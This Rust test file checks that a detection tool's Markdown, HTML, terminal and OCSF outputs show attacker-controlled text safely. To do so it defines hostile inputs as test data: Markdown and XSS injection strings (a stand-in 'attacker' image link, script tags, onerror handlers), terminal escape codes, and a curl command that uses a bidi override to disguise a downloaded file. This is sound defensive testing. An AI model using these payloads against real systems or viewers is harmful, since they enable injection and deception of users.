//! Attacker text in the outputs: the Markdown report shows it as text (no live image, link, HTML or
//! emphasis) and code spans show it verbatim; OCSF lines carry bidi controls escaped.

use floodwatch_core::alert::*;
use floodwatch_core::event::{Proto, SignatureClass, Tty};
use floodwatch_core::Ts;
use floodwatch_sinks::report::{markdown_report, Section};
use floodwatch_sinks::summary::RunSummary;

/// What an attacker puts in a command line (or names a process) to inject into a Markdown report.
const HOSTILE: &str = "![t](http://attacker/t.png) [x](javascript:alert(1)) <img src=x> \
    <http://attacker/> *b* _i_ ~~s~~ # h | c \\ &lt; `id` ``x`` ]( ![";

fn view(pid: i32, path: &str, cmd: &str) -> ProcessView {
    ProcessView {
        pid,
        start_time: Some(Ts::from_secs(1_790_000_000)),
        path: Some(path.into()),
        cmd_line: Some(cmd.into()),
        uid: Some(0),
        euid: Some(0),
        user: Some("root".into()),
        tty: Tty::None,
        signing_id: None,
        team_id: None,
        signature: SignatureClass::AdHoc,
    }
}

fn alert(cmd: &str) -> Alert {
    Alert {
        id: "0b8e7d44-0000-5000-8000-000000000001".into(),
        host: format!("mac-01 {HOSTILE}"),
        status: AlertStatus::Closed,
        first_seen: Ts::from_secs(1_790_000_000),
        last_seen: Ts::from_secs(1_790_000_090),
        score: 82,
        severity: Severity::High,
        reasons: vec![Reason {
            code: "spawn_rate".into(),
            points: 55,
            text: format!("40.0 curl execs/s from one parent: {cmd}"),
            value: Some(40.0),
            threshold: Some(5.0),
        }],
        metrics: Metrics {
            window_secs: 30,
            hot_windows: 3,
            protocols: vec![Proto::Tcp],
            ..Metrics::default()
        },
        subject: SubjectView {
            kind: "lineage_group".into(),
            process: view(4000, &format!("/tmp/{HOSTILE}"), cmd),
            parents: vec![view(1, "/sbin/launchd", "/sbin/launchd")],
            children: vec![("/usr/bin/curl".into(), 2400)],
        },
        context: ContextView {
            unattended: true,
            launched_by: "launchd".into(),
            launch_chain: format!("launchd → {cmd}"),
            ..ContextView::default()
        },
        evidences: vec![],
        timeline: vec![],
        baseline: "absolute thresholds".into(),
        suppressed_by: None,
        suppression_notes: vec![],
        campaign: None,
        playbook: None,
        facts: Default::default(),
    }
}

/// The text of a Markdown line outside its code spans, and the contents of its code spans
/// (CommonMark: a run of n backticks opens, the next run of exactly n closes; one space is stripped
/// from both ends when both ends have one).
fn split_code_spans(line: &str) -> (String, Vec<String>) {
    let b = line.as_bytes();
    let (mut text, mut spans) = (String::new(), Vec::new());
    let mut i = 0;
    let run = |at: usize| b[at..].iter().take_while(|&&c| c == b'`').count();
    while i < b.len() {
        // A backslash-escaped character is text.
        if b[i] == b'\\' && i + 1 < b.len() {
            text.push_str(&line[i..i + 2]);
            i += 2;
            continue;
        }
        if b[i] != b'`' {
            let next = line[i..].chars().next().unwrap();
            text.push(next);
            i += next.len_utf8();
            continue;
        }
        let n = run(i);
        let mut j = i + n;
        let close = loop {
            match line[j..].find('`') {
                None => break None,
                Some(k) => {
                    let at = j + k;
                    let m = run(at);
                    if m == n {
                        break Some(at);
                    }
                    j = at + m;
                }
            }
        };
        let Some(close) = close else {
            // No closing run: the backticks are text (an unescaped backtick would be a bug).
            text.push_str(&line[i..i + n]);
            i += n;
            continue;
        };
        let inner = &line[i + n..close];
        let inner = match (inner.strip_prefix(' '), inner.trim_matches(' ').is_empty()) {
            (Some(rest), false) => rest.strip_suffix(' ').unwrap_or(inner),
            _ => inner,
        };
        spans.push(inner.to_string());
        i = close + n;
    }
    (text, spans)
}

/// `c` appears in `text` without a backslash before it.
fn unescaped(text: &str, c: char) -> bool {
    let mut escaped = false;
    for x in text.chars() {
        if x == c && !escaped {
            return true;
        }
        escaped = x == '\\' && !escaped;
    }
    false
}

#[test]
fn markdown_report_shows_hostile_text_as_text() {
    let cmd = format!("/usr/bin/curl -s {HOSTILE}");
    let extra = [Section {
        title: format!("eval {HOSTILE}"),
        headers: vec![format!("family {HOSTILE}")],
        rows: vec![vec![HOSTILE.to_string()]],
        lines: vec![HOSTILE.to_string(), format!("- 1. > {HOSTILE}")],
    }];
    let md = markdown_report("r", &[alert(&cmd)], &RunSummary::default(), &extra);
    let mut code = Vec::new();
    for line in md.lines() {
        let (text, spans) = split_code_spans(line);
        code.extend(spans);
        assert!(
            !text.contains("![") && !text.contains("]("),
            "an image or a link survives: {line}"
        );
        for c in ['[', ']', '<', '>', '*', '_', '`', '~', '!'] {
            assert!(!unescaped(&text, c), "unescaped {c:?} in {line}");
        }
        // The record's own `&lt;` is shown as those four characters, not as `<`.
        if text.contains("javascript") {
            assert!(text.contains("\\&lt;"), "{line}");
        }
        // The paragraphs cannot start a list, a quote or a heading.
        assert!(
            !line.starts_with("- 1.") && !line.starts_with("> "),
            "{line}"
        );
    }
    // Code spans hold the command line and the chain exactly, backticks and `&lt;` included: no
    // HTML entity (code spans do not decode them) and no backtick replaced.
    assert!(code.contains(&cmd), "{code:?}\n{md}");
    assert!(code.contains(&format!("launchd → {cmd}")), "{code:?}");
    assert!(code.iter().all(|c| !c.contains("&amp;")));
}

#[test]
fn code_spans_take_a_fence_longer_than_any_backtick_run() {
    use floodwatch_sinks::escape::markdown_code;
    for s in [
        "plain",
        "a`b",
        "``x``",
        "`start",
        "end`",
        " spaced ",
        "a ``` b",
        "x\ny\r\tz",
    ] {
        let span = markdown_code(s);
        let (text, spans) = split_code_spans(&span);
        assert_eq!(text, "", "{span}");
        assert_eq!(spans, vec![s.replace(['\n', '\r', '\t'], " ")], "{span}");
    }
    assert_eq!(markdown_code("/bin/bash /x.sh"), "`/bin/bash /x.sh`");
    assert!(!markdown_code("a < b & c").contains("&lt;"));
}

/// A command line with U+202E (and every other bidi control) through the OCSF writer: each is a
/// `\uXXXX` escape in the line, never the raw character, and the line parses back to the same
/// string. serde_json alone writes them raw.
#[test]
fn ocsf_lines_escape_bidi_controls() {
    use floodwatch_sinks::ocsf::{detection_finding, write_json_line, Activity};
    let bidi = [
        '\u{061c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}',
        '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
    ];
    let cmd = format!(
        "/usr/bin/curl -o /tmp/x\u{202e}gpj.sh http://203.0.113.10/ {}",
        bidi.iter().collect::<String>()
    );
    let v = detection_finding(&alert(&cmd), Activity::Create, "0.1.0");
    assert!(serde_json::to_string(&v).unwrap().contains('\u{202e}'));
    let mut buf = Vec::new();
    write_json_line(&mut buf, &v).unwrap();
    let line = String::from_utf8(buf).unwrap();
    assert!(line.ends_with('\n') && line.matches('\n').count() == 1);
    for c in bidi {
        assert!(!line.contains(c), "raw U+{:04X}", c as u32);
        assert!(
            line.contains(&format!("\\u{:04x}", c as u32)),
            "U+{:04X}",
            c as u32
        );
    }
    assert!(line.contains("\\u202egpj.sh"));
    let back: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!(back["actor"]["process"]["cmd_line"], cmd.as_str());
    assert_eq!(back, v);
    // Everything else is exactly what serde_json writes.
    let plain = detection_finding(&alert("/bin/ping -f 10.0.0.1"), Activity::Create, "0.1.0");
    let mut buf = Vec::new();
    write_json_line(&mut buf, &plain).unwrap();
    assert_eq!(
        String::from_utf8(buf).unwrap(),
        format!("{}\n", serde_json::to_string(&plain).unwrap())
    );
}

/// A playbook whose every string carries attacker text (a script path in a command, a fact quoting
/// a command line): the HTML shows it as text, the terminal shows control characters, the
/// Markdown keeps it in code spans or escaped.
fn hostile_playbook() -> floodwatch_core::respond::Playbook {
    use floodwatch_core::respond::*;
    let evil = "<script>alert(1)</script><img src=x onerror=alert(2)>\x1b[2J\r\n'\"&";
    Playbook {
        next: format!("Stop the process ({evil})"),
        summary: evil.into(),
        decisions: vec![Decision {
            id: "trusted_code".into(),
            question: "Is the code signed?".into(),
            answer: Answer::No,
            fact: format!("runs from a hidden or user-writable path: {evil}"),
        }],
        recommended: "stop_process".into(),
        why: evil.into(),
        containment: vec![Containment {
            id: "stop_process".into(),
            title: format!("Stop {evil}"),
            disruption: 2,
            when: evil.into(),
            commands: vec![format!(
                "sudo grep -lF -- '{evil}' /Library/LaunchDaemons/*.plist"
            )],
            applicable: true,
            note: Some(evil.into()),
        }],
        impact: vec![ImpactCheck {
            destination: evil.into(),
            rate: evil.into(),
            duration_secs: 1.0,
            hosts_same_destination: 1,
            owned_service: Some(evil.into()),
            checks: vec![evil.into()],
        }],
        collect: vec![CollectItem {
            what: evil.into(),
            detail: evil.into(),
            command: Some(format!("shasum -a 256 -- '{evil}'")),
        }],
    }
}

#[test]
fn playbooks_show_hostile_paths_as_text_in_html_markdown_and_terminal() {
    use floodwatch_sinks::respond::{playbook_html, playbook_markdown, playbook_text};
    let p = hostile_playbook();
    let h = playbook_html(&p);
    for raw in ["<script", "<img", "\x1b", "onerror=alert(2)>"] {
        assert!(!h.contains(raw), "raw {raw:?} in HTML: {h}");
    }
    assert!(h.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{h}");
    assert!(h.contains("&#39;"), "quotes in commands are entities: {h}");
    let t = playbook_text(&p);
    assert!(!t.contains('\x1b') && !t.contains('\r'), "{t:?}");
    assert!(t.contains("\\x1b[2J"), "{t}");
    let m = playbook_markdown(&p);
    assert!(!m.contains('\x1b'), "{m:?}");
    // Outside code spans no raw HTML is left.
    for line in m.lines() {
        let (outside, _) = split_code_spans(line);
        assert!(!outside.contains("<script"), "{line}");
        assert!(!outside.contains("<img"), "{line}");
    }
}
